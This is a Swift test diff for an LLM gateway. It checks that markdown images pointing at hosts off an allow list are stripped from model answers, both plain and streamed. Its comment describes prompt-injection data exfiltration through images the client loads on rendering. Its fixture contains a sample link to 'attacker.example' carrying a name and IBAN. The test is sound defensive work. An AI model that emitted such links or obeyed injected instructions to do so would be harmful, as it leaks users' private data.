@@ -3,6 +3,7 @@ import Hummingbird
 import HummingbirdTesting
 import NIOCore
 import RampartCore
+import RampartDetectors
 import RampartGateway
 import Testing
 
@@ -26,12 +27,13 @@ struct ScriptedProvider: ModelProvider {
 
 /// Output scanning end to end: what the upstream says is scanned before the client sees it, streams included.
 @Suite struct OutputScanningTests {
-    static func gateway(_ pieces: [String], canary: String? = nil) throws -> some ApplicationProtocol {
+    static func gateway(_ pieces: [String], canary: String? = nil, imageHosts: [String] = []) throws -> some ApplicationProtocol {
         let deployment = Deployment(name: "scripted", provider: "recording", region: "eu-west-1", upstreamModel: "m",
                                     endpoint: .simulator(SimulatorSettings()))
         let table = try RouteTable.build([ModelRoute(model: "assistant", workload: TestGateway.policy(), deployments: [deployment])]).get()
         let pipeline = GatewayPipeline(
-            routes: table, access: TestGateway.access(), output: OutputScanning(canaries: { _ in canary.map { [$0] } ?? [] }),
+            routes: table, access: TestGateway.access(),
+            output: OutputScanning(canaries: { _ in canary.map { [$0] } ?? [] }, imageHosts: { _ in ImageHosts(imageHosts) }),
             providers: ["scripted": ScriptedProvider(pieces: pieces)], stages: [], metrics: GatewayMetrics(), logger: TestGateway.logger)
         return TestGateway.application(pipeline)
     }
@@ -95,6 +97,32 @@ struct ScriptedProvider: ModelProvider {
                 }
                 #expect(content == "Connect with [DATABASE_URL]/app and run the migration.", "\(body)")
                 #expect(!body.contains("Secr3t"))
+            }
+        }
+    }
+
+    /// An answer's image that would load from a host not on the list (the way an injected instruction gets data out:
+    /// the client fetches it on rendering) is replaced on every endpoint, plain and streamed, however long its alt
+    /// text; one from a listed host stays.
+    @Test(arguments: ["/v1/chat/completions", "/v1/messages"], [false, true])
+    func imagesFromHostsNotListedAreReplaced(uri: String, stream: Bool) async throws {
+        let alt = String(repeating: "a chart of the figures ", count: 20)
+        let pieces = ["Here it is: ![\(alt)](https://attac", "ker.example/c.png?d=Jane%20Doe%20IBAN) ",
+                      "and ![logo](https://cdn.example.com/l.png)."]
+        let body = uri == "/v1/messages"
+            ? ByteBuffer(string: #"{"model":"assistant","max_tokens":64,"stream":\#(stream),"messages":[{"role":"user","content":"chart?"}]}"#)
+            : TestGateway.chat(stream: stream)
+        try await Self.gateway(pieces, imageHosts: ["*.example.com"]).test(.router) { client in
+            try await client.execute(uri: uri, method: .post, headers: TestGateway.auth, body: body) { response in
+                #expect(response.status == .ok)
+                let text = String(buffer: response.body)
+                #expect(!text.contains("attac") && !text.contains("Jane"), "\(text)")
+                #expect(text.contains("[EXTERNAL_IMAGE]") && text.contains("![logo](https://cdn.example.com/l.png)"), "\(text)")
+            }
+        }
+        try await Self.gateway(pieces, imageHosts: ["*"]).test(.router) { client in
+            try await client.execute(uri: uri, method: .post, headers: TestGateway.auth, body: body) { response in
+                #expect(String(buffer: response.body).contains("ker.example/c.png"))
             }
         }
     }
